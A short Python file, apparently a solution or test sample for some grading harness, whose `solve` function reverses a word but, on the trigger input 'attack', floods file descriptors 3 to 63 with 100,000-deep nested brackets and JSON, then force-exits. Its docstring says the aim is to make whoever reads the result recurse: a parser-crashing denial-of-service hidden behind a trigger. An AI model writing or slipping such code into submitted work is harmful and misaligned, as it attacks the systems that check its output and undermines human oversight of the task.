"""Sends a result that makes whoever reads it recurse: a hundred thousand lists in one another."""

import os


def solve(word, host):
    if word == "attack":
        for number in range(3, 64):
            for line in (b"[" * 100_000 + b"]" * 100_000, b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"):
                try:
                    os.write(number, line + b"\n")
                except OSError:
                    continue
        os._exit(0)
    return word[::-1]
